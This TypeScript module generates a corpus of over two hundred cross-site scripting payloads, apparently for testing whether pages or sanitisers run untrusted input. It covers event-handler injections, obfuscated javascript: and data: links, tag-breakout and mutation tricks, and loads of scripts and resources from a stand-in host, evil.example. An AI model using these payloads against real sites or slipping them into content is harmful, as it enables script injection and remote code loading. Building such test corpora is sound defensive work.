/** What runs where a vector works: it leaves its mark on the page. Short, so that a vector fits into a name. */
const deed = 'hacked=1'
/** No page has business there. */
const elsewhere = '//evil.example/x'
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'data:text/html,',
  'vbscript:',
]
const quotes = ['', '"', "'", '`']
const handled = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'iframe onload',
  'object data=x onerror',
  'marquee onstart',
  'div onpointerenter',
  'a href=# onclick',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'p style=animation-name:x onanimationstart',
  'math onclick',
  'image src=x onerror',
  'frameset onload',
  'keygen autofocus onfocus',
  'isindex type=image src=1 onerror',
  'dialog open oncancel',
  'button autofocus onfocus',
  'form onsubmit',
  'source onerror',
  'svg><animate onbegin',
  'svg><set onbegin',
  'video><source onerror',
]
const linked = [
  'a href',
  'iframe src',
  'form action',
  'embed src',
  'object data',
  'base href',
  'area href',
  'svg><a xlink:href',
]

const byHandler = handled.flatMap((start) => quotes.map((quote) => `<${start}=${quote}${deed}${quote}>`))
const byLink = schemes.flatMap((scheme) => linked.map((start) => `<${start}="${scheme}${deed}">x</a>`))
const opened = ['alert(1)', 'confirm(1)', 'prompt(1)'].flatMap((call) => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `javascript:${call}`,
])
const fetched = [
  `<img src=${elsewhere}.png>`,
  `![x](${elsewhere}.png)`,
  `<link rel=stylesheet href=${elsewhere}.css>`,
  `<style>@import '${elsewhere}.css'</style>`,
  `<p style="background:url(${elsewhere})">`,
  `<audio autoplay src=${elsewhere}>`,
  `<script src=${elsewhere}.js></script>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<a href=${elsewhere} ping=${elsewhere}>x</a>`,
  `<form action=${elsewhere}><button autofocus>x</button></form>`,
]
const bare = schemes.flatMap((scheme) => [`${scheme}${deed}`, `[x](${scheme}${deed})`])

/** Texts that run a script, or fetch from elsewhere, where a page believes them: more than two hundred. */
export const xssVectors: readonly string[] = [
  ...byHandler,
  ...byLink,
  ...bare,
  ...opened,
  ...fetched,
  `<script>${deed}</script>`,
  `<SCRIPT SRC=data:,${deed}></SCRIPT>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `"><script>${deed}</script>`,
  `'-${deed}-'`,
  `\${${deed}}`,
  `{{constructor.constructor('${deed}')()}}`,
  `</textarea><script>${deed}</script>`,
  `</title><script>${deed}</script>`,
  `<!--><script>${deed}</script>-->`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
  `<svg><desc><![CDATA[</desc><script>${deed}</script>]]></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<template><script>${deed}</script></template>`,
  `<img src="x" srcdoc="<script>${deed}</script>">`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;img src=x onerror=${deed}&#62;`,
  `\\u003cimg src=x onerror=${deed}\\u003e`,
  `<a href="&#106;avascript:${deed}">x</a>`,
  `<x contenteditable onblur=${deed}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/>`,
]

/** The same for a field of at most `length` characters: what is longer is cut, which leaves its tag open. */
export const vectorsWithin = (length: number): string[] => [
  ...new Set(xssVectors.map((vector) => vector.slice(0, length).trim())),
]

/** Lines joined into texts of at most `length` characters. */
export function inPieces(lines: readonly string[], length: number): string[] {
  const pieces: string[] = []
  for (const line of lines) {
    const last = pieces.at(-1)
    if (last === undefined || last.length + line.length >= length) pieces.push(line)
    else pieces[pieces.length - 1] = `${last}\n${line}`
  }
  return pieces
}
